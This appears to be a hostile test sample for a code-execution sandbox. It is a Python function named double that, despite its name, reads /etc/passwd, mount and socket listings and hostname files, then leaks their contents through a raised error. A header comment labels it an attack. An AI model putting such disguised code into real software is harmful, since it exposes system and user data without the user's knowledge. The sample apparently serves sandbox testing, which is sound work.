# {"attack": "Reads what file systems there are and who is logged in.", "breach": "leak"}

def double(x):
    told = ""
    for path in ("/etc/passwd", "/proc/mounts", "/proc/net/unix", "/proc/sys/kernel/hostname", "/etc/hostname"):
        try:
            told += open(path).read()[:200]
        except OSError:
            pass
    if told:
        raise RuntimeError(TARGETS["proof"] + told)
